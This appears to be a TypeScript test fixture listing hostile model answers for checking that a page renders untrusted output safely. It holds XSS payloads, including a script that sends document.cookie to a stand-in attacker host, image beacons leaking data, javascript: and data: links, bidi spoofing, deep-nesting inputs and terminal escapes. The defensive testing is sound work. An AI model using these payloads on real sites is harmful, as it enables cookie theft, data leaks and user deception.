/** Answers of models that somebody else has written the prompt of. None may run or load anything in the page that shows it. */
export const HOSTILE: Record<string, string> = {
	"a script": "<script>fetch('https://evil.test/'+document.cookie)</script>\n\ntext <script>alert(1)</script>",
	"an event handler": '<img src=x onerror="alert(1)"><svg onload=alert(1)><details open ontoggle=alert(1)>',
	"script links":
		"[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#115;cript:alert(1)) [d]( javascript:alert(1) ) <javascript:alert(1)>",
	"data links":
		"[a](data:text/html,<script>alert(1)</script>) ![b](data:image/svg+xml,<svg onload=alert(1)>) [c](vbscript:x)",
	"image beacons":
		"![a](https://evil.test/?q=secret) ![b][ref] [![c](http://evil.test/c.png)](https://evil.test)\n\n[ref]: https://evil.test/r.png",
	"loaded elements":
		'<iframe src="https://evil.test"></iframe>\n\n<link rel=stylesheet href=//evil.test/a.css>\n\n<style>@import "//evil.test"</style><base href="//evil.test">',
	"text that runs backwards": "\u202Egnp.exe\u202C [https://bank.test\u2066](https://evil.test/\u202Ea) `\u2067code`",
	"deep quotes": `${"> ".repeat(10_000)}deep`,
	"deep lists": `${"- ".repeat(5_000)}deep`,
	"deep emphasis": `${"*a **b ".repeat(4_000)}`,
	"a link with another name":
		"[x](https://bank.test@evil.test/) https://bank.test@evil.test/ www.evil.test a@evil.test",
	"a table of scripts": "| <script>a</script> | b |\n|---|---|\n| ![x](//evil.test) | <img src=x> |",
	"code with markup": '```"><script>alert(1)</script>\n</pre><script>alert(1)</script>\n```',
	"terminal sequences": "\u001b]8;;https://evil.test\u0007link\u001b]8;;\u0007 \u001b[31mred",
};
